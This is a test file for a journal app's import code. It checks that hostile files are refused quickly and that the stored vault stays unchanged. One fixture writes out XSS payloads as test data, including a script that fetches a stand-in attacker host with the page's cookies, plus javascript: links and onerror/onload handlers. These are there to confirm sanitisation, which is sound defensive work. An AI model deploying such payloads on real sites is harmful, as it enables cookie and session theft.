/** Files made to do harm: each is refused with a code, soon, in little memory, and the vault is what it was. */
import { createHash } from 'node:crypto'
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { AppError } from '../../../shared/errors.ts'
import type { Reply } from '../../../shared/errors.ts'
import { plainText } from '../../../shared/rich-text.ts'
import { planOf } from '../../../electron/imports/plan.ts'
import { readSource } from '../../../electron/imports/sources.ts'
import { hostileFiles, put, text } from '../../helpers/hostile-files.ts'
import { tarOf } from '../../helpers/tar.ts'
import { tempFolder } from '../../helpers/temp-folder.ts'
import { openTestBackend } from '../../helpers/test-backend.ts'
import { stopwatch } from '../../helpers/took.ts'

const all = process.env['MJ_FULL'] === '1'
/** Beside other tests on the same machine a second is longer. */
const slack = all ? 1 : 3

async function emptyVault() {
  const { test: open } = await openTestBackend()
  await open.call('space.create', { role: 'mentee', me: '', other: '' })
  const bytes = () => createHash('sha256').update(readFileSync(join(open.folder, 'journal.db'))).digest('hex')
  const look = async (path: string) => {
    open.host.paths.push(path)
    return open.reply('import.choose', { from: 'file' })
  }
  return { open, bytes, look }
}

/** The same reading without a thread around it: starting one takes most of the time of a case. */
function readHere(path: string): Promise<Reply<unknown>> {
  try {
    planOf(readSource({ path }, () => undefined), () => undefined)
    return Promise.resolve({ ok: true, value: null })
  } catch (error) {
    return Promise.resolve({ ok: false, code: error instanceof AppError ? error.code : 'internal' })
  }
}

test('hostile files are refused in less than two seconds and 256 MB, and the vault stays as it was', { timeout: 120_000 }, async () => {
  const { bytes, look } = await emptyVault()
  const before = bytes()
  await look('/nowhere')
  const told: string[] = []

  for (const [index, { what, codes, make }] of hostileFiles.entries()) {
    const path = make(tempFolder())
    const resting = process.memoryUsage().rss
    let peak = resting
    const watch = setInterval(() => { peak = Math.max(peak, process.memoryUsage().rss) }, 5)
    const took = stopwatch()
    const reply = await (all || index % 7 === 4 ? look(path) : readHere(path))
    const taken = took()
    clearInterval(watch)

    const code = reply.ok ? 'ok' : reply.code
    if (!codes.includes(code)) told.push(`${what}: ${code}`)
    if (taken > 2000 * slack) told.push(`${what}: ${Math.round(taken)} ms`)
    if (peak - resting > 256_000_000) told.push(`${what}: ${Math.round((peak - resting) / 1_000_000)} MB`)
  }

  expect(told).toEqual([])
  expect(bytes()).toBe(before)
})

test('links in a folder are not followed', async () => {
  const { look } = await emptyVault()
  const folder = tempFolder()
  writeFileSync(join(folder, 'outside.md'), 'Not yours to read.')
  mkdirSync(join(folder, 'chosen'))
  writeFileSync(join(folder, 'chosen', 'inside.md'), 'Mine.')
  symlinkSync(join(folder, 'outside.md'), join(folder, 'chosen', 'link.md'))
  symlinkSync(folder, join(folder, 'chosen', 'round'))

  expect(await look(join(folder, 'chosen'))).toMatchObject({ ok: true, value: { count: 1 } })
})

test('HTML, scripts, addresses and remote pictures leave nothing but words', async () => {
  const { open, look } = await emptyVault()
  const path = put('a.md', () => [
    '# Before', '<script>fetch("https://evil.example/" + document.cookie)</script>', '<img src="https://evil.example/pixel.gif" onerror="alert(1)">',
    '[click](javascript:alert(1)) and ![](https://evil.example/a.png) and <a href="javascript:alert(2)">here</a>',
    '<svg onload="alert(3)"></svg><iframe src="//evil.example"></iframe><style>*{background:url(//evil.example)}</style>', 'After',
  ].join('\n\n'))(tempFolder())
  const reply = await look(path)
  if (!reply.ok) throw new Error(reply.code)
  const [space] = await open.call('space.list')
  const { id } = reply.value as { id: never }
  await open.call('import.add', { id, spaceId: space?.id ?? '', skipDuplicates: true })

  const [item] = await open.call('item.list', { spaceId: space?.id ?? '', kinds: ['entry'], limit: 5 })

  const stored = JSON.stringify(item)
  expect(stored).not.toMatch(/javascript:|evil\.example|<script|onerror|onload|fetch/)
  expect(item?.kind === 'entry' && plainText(item.body.text)).toBe('Before\nclick and  and here\nAfter')
})

test('ten thousand lists in one another, and entities that name entities, become words', async () => {
  const { look } = await emptyVault()
  const nested = `${'<ul><li>'.repeat(10_000)}the innermost word${'</li></ul>'.repeat(10_000)}`
  const joplin = `Deep\n\n${nested}\n\nid: ${'a'.repeat(32)}\nmarkup_language: 2\ntype_: 1`
  const deep = put('a.jex', () => tarOf([{ name: `${'a'.repeat(32)}.md`, bytes: text(joplin) }]))(tempFolder())
  const lists = put('b.md', () => Array.from({ length: 3000 }, (_, depth) => `${' '.repeat(depth * 2)}- line ${depth}`).join('\n'))(tempFolder())
  const entities = put('c.md', () => '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]> &c;&amp;lt;&#38;#60; end')(tempFolder())

  expect(await look(deep)).toMatchObject({ ok: true, value: { first: [{ words: 'Deep\nthe innermost word' }] } })
  expect(await look(lists)).toMatchObject({ ok: true, value: { count: 1, first: [{ title: 'line 0' }] } })
  expect(await look(entities)).toMatchObject({ ok: true, value: { first: [{ words: expect.stringContaining('&c;&lt;&#60; end') }] } })
})

test('a very long text is cut into entries that can be written in, and no word is lost', { timeout: 60_000 }, async () => {
  const { open, look } = await emptyVault()
  const words = Array.from({ length: 60_000 }, (_, index) => `word${index}`)
  const path = put('a.txt', () => `${words.slice(0, 30_000).join(' ')}\n${words.slice(30_000).join('\n')}`)(tempFolder())
  const reply = await look(path)
  if (!reply.ok) throw new Error(reply.code)
  const { id, count } = reply.value as { id: never; count: number }
  expect(count).toBeGreaterThan(1)
  const [space] = await open.call('space.list')
  await open.call('import.add', { id, spaceId: space?.id ?? '', skipDuplicates: true })

  const items = await open.call('item.list', { spaceId: space?.id ?? '', kinds: ['entry'], limit: 1000 })

  const back = items.toReversed().flatMap((item) => (item.kind === 'entry' ? plainText(item.body.text).split(/\s+/) : []))
  expect(back).toEqual(words)
})
